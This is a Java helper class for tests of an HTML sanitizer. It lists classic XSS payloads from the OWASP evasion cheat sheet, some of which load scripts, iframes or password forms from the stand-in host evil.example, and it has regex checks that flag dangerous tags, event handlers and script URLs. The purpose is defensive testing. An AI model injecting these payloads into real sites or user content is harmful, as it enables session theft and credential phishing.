package fi.askel.peer;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.regex.Pattern;

/** Classic XSS payloads (OWASP filter-evasion cheat sheet and friends) and what "inert" means for a page. */
final class XssPayloads {

    static final List<String> LIST = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "\"><script>alert(document.cookie)</script>",
            "<<script>script>alert(1)<</script>/script>",
            "<img src=x onerror=alert(1)>",
            "<IMG SRC=\"javascript:alert('XSS');\">",
            "<svg/onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<a href=\"javascript:alert(1)\">click</a>",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<style>body{display:none}</style>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=\"https://evil.example/x.swf\">",
            "<base href=\"https://evil.example/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "<form action=\"https://evil.example\"><input name=password></form>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "[click](&#106;avascript:alert(1))",
            "[click](javascript&colon;alert(1))",
            "[click](  javascript:alert(1) \"title\")",
            "[click](vbscript:msgbox(1))",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "![x](javascript:alert(1))",
            "![x](https://evil.example/pixel.png \"onerror=alert(1)\")",
            "<javascript:alert(1)>",
            "[x](https://ok.example\" onmouseover=\"alert(1))",
            "`<script>alert(1)</script>`",
            "```\n<script>alert(1)</script>\n```",
            "<!-- <script>alert(1)</script> -->",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "<a href=\"https://evil.example\" target=\"_blank\">tab</a>");

    private static final Pattern DANGEROUS_TAG = Pattern.compile(
            "<\\s*(script|iframe|svg|img|object|embed|style|base|math|body|details|form|meta)\\b",
            Pattern.CASE_INSENSITIVE);
    private static final Pattern EVENT_HANDLER = Pattern.compile("<[a-z][^>]*\\son[a-z]+\\s*=", Pattern.CASE_INSENSITIVE);
    private static final Pattern BAD_URL = Pattern.compile(
            "(href|src|action|data|formaction|xlink:href)\\s*=\\s*[\"']?\\s*(javascript|vbscript|data)\\s*:",
            Pattern.CASE_INSENSITIVE);
    private static final Pattern STYLE_ATTR = Pattern.compile("<[a-z][^>]*\\sstyle\\s*=", Pattern.CASE_INSENSITIVE);
    private static final Pattern TARGET_BLANK = Pattern.compile("<[a-z][^>]*\\starget\\s*=", Pattern.CASE_INSENSITIVE);

    private static final Pattern OWN_SCRIPT = Pattern.compile("<script src=\"/static/[a-z-]+\\.js\" defer></script>");

    private XssPayloads() {}

    /** What would make this HTML (a post body, or a page's main area) run or load something; empty when inert. */
    static List<String> problems(String html) {
        List<String> problems = new ArrayList<>();
        if (DANGEROUS_TAG.matcher(html).find()) {
            problems.add("dangerous tag");
        }
        if (EVENT_HANDLER.matcher(html).find()) {
            problems.add("event handler attribute");
        }
        if (BAD_URL.matcher(html).find()) {
            problems.add("script or data URL");
        }
        if (STYLE_ATTR.matcher(html).find()) {
            problems.add("style attribute");
        }
        if (TARGET_BLANK.matcher(html).find()) {
            problems.add("target attribute");
        }
        String[] links = html.split("<a ");
        for (int i = 1; i < links.length; i++) {
            String tag = links[i].substring(0, Math.max(0, links[i].indexOf('>')));
            if (tag.contains("href=") && !tag.startsWith("href=\"/") && !tag.contains("rel=\"nofollow noopener noreferrer\"")) {
                problems.add("external link without rel: " + tag.toLowerCase(Locale.ROOT));
            }
        }
        return problems;
    }

    /** Checks for a whole page, whose own forms and details elements are fine. */
    static List<String> pageProblems(String html) {
        List<String> problems = new ArrayList<>();
        // The page's own scripts (files under /static, the only ones the CSP lets run) are not a payload.
        html = OWN_SCRIPT.matcher(html).replaceAll("");
        if (Pattern.compile("<\\s*(script|iframe|svg|img|object|embed|style|base|math)\\b|<meta[^>]*http-equiv",
                Pattern.CASE_INSENSITIVE).matcher(html).find()) {
            problems.add("dangerous tag");
        }
        if (EVENT_HANDLER.matcher(html).find()) {
            problems.add("event handler attribute");
        }
        if (BAD_URL.matcher(html).find()) {
            problems.add("script or data URL");
        }
        if (STYLE_ATTR.matcher(html).find()) {
            problems.add("style attribute");
        }
        return problems;
    }
}
